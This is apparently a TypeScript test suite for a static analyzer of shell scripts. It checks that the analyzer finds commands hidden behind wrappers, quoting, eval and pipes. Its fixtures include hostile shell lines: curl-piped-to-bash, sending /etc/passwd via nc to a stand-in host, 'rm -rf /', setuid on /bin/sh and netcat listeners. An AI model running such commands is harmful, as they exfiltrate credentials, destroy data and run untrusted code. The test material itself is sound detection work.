import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { analyzeShell } from '../../core/languages/shell';
import { foldShellWord } from '../../core/languages/shellWord';
import type { LanguageFacts } from '../../core/languages/types';
import type { ParserHost } from '../../core/parsing';
import { loadParsers } from '../../runtime/grammars';

let host: ParserHost;
before(async () => {
  host = await loadParsers(['bash']);
});

function analyze(code: string): LanguageFacts {
  const tree = host.parse('bash', code);
  assert.ok(tree);
  try {
    return analyzeShell(tree, code);
  } finally {
    tree.delete();
  }
}

const modules = (f: LanguageFacts) => f.imports.map((i) => i.module);
const calls = (f: LanguageFacts) => f.calls.map((c) => c.name);
const text = (code: string, s: { start: number; end: number }) => code.slice(s.start, s.end);

describe('shell analyzer: commands', () => {
  it('reports every simple command, wherever it is nested', () => {
    const code = [
      'curl -s http://x | bash',
      'x=$(wget -qO- "http://a/$(id)")',
      'echo "now: $(date) `whoami`"',
      '( cd / && ls ) &',
      'if grep -q a b; then nc -l 80; fi',
      'f() { chmod 777 /tmp/x; }',
      'cat <(sudo id) > /dev/null',
      'while read l; do rm -- "$l"; done < list',
    ].join('\n');
    const names = calls(analyze(code));
    for (const n of [
      'curl',
      'bash',
      'wget',
      'id',
      'echo',
      'date',
      'whoami',
      'cd',
      'ls',
      'grep',
      'nc',
      'chmod',
      'cat',
      'sudo',
      'read',
      'rm',
    ]) {
      assert.ok(names.includes(n), `${n} in ${names.join()}`);
    }
  });

  it('removes quotes, escapes and paths from the command word', () => {
    const code = "\\rm a\nr''m b\n\"rm\" c\n/bin/rm d\n$'\\x72m' e\nc=curl; $c http://x\n${c} http://y\n";
    const f = analyze(code);
    assert.deepEqual(
      calls(f).filter((n) => n !== 'c'),
      ['rm', 'rm', 'rm', 'rm', 'rm', 'curl', 'curl'],
    );
    assert.equal(text(code, f.calls[0]!), '\\rm');
  });

  it('a command word whose value is computed at run time is not guessed', () => {
    const names = calls(analyze('$(echo cu)rl http://x\n$CMD arg\nc=a; c=b; $c\n'));
    assert.deepEqual(names, ['echo']);
  });

  it('finds a command the grammar glues onto the previous line (`echo 80` + newline + `\\rm -rf /`)', () => {
    const code = 'echo 80\n\\rm -rf /\necho x\n\\curl evil\n';
    const f = analyze(code);
    assert.deepEqual(calls(f), ['echo', 'rm', 'echo', 'curl']);
    assert.equal(text(code, f.calls[1]!), '\\rm');
  });

  it('reports the command a wrapper runs, and the wrapper', () => {
    const code = [
      'sudo -u root rm -rf /',
      'xargs -n1 -I{} curl {} < urls',
      'env -i FOO=1 nc -l 80',
      'command wget http://x',
      'exec -a name bash',
      'nohup nice -n 5 timeout -s KILL 10 python3 x.py &',
      'find . -name "*.sh" -exec chmod +x {} \\;',
      'sudo env PATH=/x busybox wget http://y',
    ].join('\n');
    const names = calls(analyze(code));
    for (const n of [
      'sudo',
      'rm',
      'xargs',
      'curl',
      'env',
      'nc',
      'command',
      'wget',
      'exec',
      'bash',
      'nohup',
      'nice',
      'timeout',
      'python3',
      'find',
      'chmod',
      'busybox',
    ]) {
      assert.ok(names.includes(n), `${n} in ${names.join()}`);
    }
  });

  it('command -v only looks a name up: nothing runs', () => {
    assert.deepEqual(calls(analyze('command -v curl\n')), ['command']);
  });

  it('analyses scripts given as strings to bash -c, sh -c, su -c, eval, trap, alias and env -S', () => {
    const code = [
      "bash -c 'cat /etc/passwd | nc evil 1'",
      'sh -ec "wget http://x"',
      "su root -c 'chmod 4755 /bin/sh'",
      'eval "curl" "http://y"',
      "trap 'rm -rf /tmp/x' EXIT",
      "alias ll='sudo ls'",
      "env -S 'python3 -c 1'",
    ].join('\n');
    const f = analyze(code);
    const names = calls(f);
    for (const n of ['cat', 'nc', 'wget', 'chmod', 'curl', 'rm', 'ls', 'python3'])
      assert.ok(names.includes(n), `${n} in ${names.join()}`);
    const nc = f.calls.find((c) => c.name === 'nc')!;
    assert.equal(text(code, nc), 'nc');
  });

  it('does not take commands from comments, plain strings or heredoc text', () => {
    const code =
      '# curl http://x | sh\necho \'rm -rf /\'\nprintf "%s" "wget x"\ncat <<\'EOF\'\nnc -l 80\nEOF\n';
    assert.deepEqual(calls(analyze(code)), ['echo', 'printf', 'cat']);
  });
});

describe('shell analyzer: source', () => {
  it('source FILE and . FILE are imports; computed or streamed files are dynamic', () => {
    const code =
      'source ./lib.sh\n. "/etc/profile"\nsource "$HOME/x"\n. <(curl -s http://x)\nsource /dev/stdin\n';
    const f = analyze(code);
    assert.deepEqual(modules(f), ['./lib.sh', '/etc/profile']);
    assert.ok(f.imports.every((i) => i.form === 'source'));
    assert.equal(f.dynamicImports.length, 3);
    assert.equal(text(code, f.dynamicImports[0]!), 'source "$HOME/x"');
    assert.ok(calls(f).includes('curl'));
  });
});

describe('shell analyzer: comments and strings', () => {
  it('expansions and command substitutions inside strings are code', () => {
    const code = "echo \"lit $x and $(uname -a) end\" 'raw' $'ansi'\n# note\n";
    const f = analyze(code);
    assert.deepEqual(
      f.strings.map((s) => text(code, s)),
      ['"lit ', ' and ', ' end"', "'raw'", "$'ansi'"],
    );
    assert.deepEqual(
      f.comments.map((s) => text(code, s)),
      ['# note'],
    );
  });

  it('folds shell words', () => {
    const vars = new Map([['c', { value: 'curl', offsets: [0, 0, 0, 0] }]]);
    assert.equal(foldShellWord('\'c\'u"r"l', vars)?.value, 'curl');
    assert.equal(foldShellWord('${c}', vars)?.value, 'curl');
    assert.equal(foldShellWord('"$c"x', vars)?.value, 'curlx');
    assert.equal(foldShellWord('$(id)', vars), undefined);
    assert.equal(foldShellWord('$unknown', vars), undefined);
    assert.equal(foldShellWord('cu*', vars), undefined);
  });
});

describe('shell analyzer: code that cannot be vetted is a dynamic import', () => {
  it('a shell reading its script from a pipe, a process substitution or a computed string', () => {
    const code = [
      'curl -s http://x | bash',
      'wget -qO- http://y | sudo sh -s -- --flag',
      'bash <(curl -s http://z)',
      'bash -c "$(curl -s http://w)"',
      'eval "$payload"',
      'su -c "$cmd"',
    ].join('\n');
    const f = analyze(code);
    assert.equal(f.dynamicImports.length, 6, JSON.stringify(f.dynamicImports));
    assert.equal(text(code, f.dynamicImports[0]!), 'bash');
    assert.match(f.dynamicImports[0]!.reason, /pipe/);
  });

  it('constant scripts are analysed instead: heredoc, here-string, -c, eval, and a script file is an import', () => {
    const code = [
      "bash <<'EOF'",
      'nc -l 4444',
      'EOF',
      "sh <<< 'wget http://q'",
      'bash -c "id"',
      'eval "uname -a"',
      'bash ./install.sh',
      'sh < setup.sh',
    ].join('\n');
    const f = analyze(code);
    assert.deepEqual(f.dynamicImports, []);
    for (const n of ['nc', 'wget', 'id', 'uname']) assert.ok(calls(f).includes(n), n);
    assert.deepEqual(
      f.imports.map((i) => [i.module, i.form]),
      [
        ['./install.sh', 'bash'],
        ['setup.sh', 'sh'],
      ],
    );
    const nc = f.calls.find((c) => c.name === 'nc')!;
    assert.equal(text(code, nc), 'nc');
  });

  it('a heredoc script with expansions is dynamic; a plain pipeline into a non-shell is not', () => {
    const f = analyze('bash <<EOF\n$(curl http://x)\nEOF\ncat f | grep x | sort\n');
    assert.equal(f.dynamicImports.length, 1);
    assert.match(f.dynamicImports[0]!.reason, /heredoc/);
  });
});

describe('shell analyzer: default-value expansions', () => {
  it('${X:-word} with X never assigned in the file is word', () => {
    const f = analyze('${UNSET:-curl} http://x\nY=wget\n${Y:-ls} http://y\n');
    assert.deepEqual(calls(f), ['curl', 'wget']);
  });
});
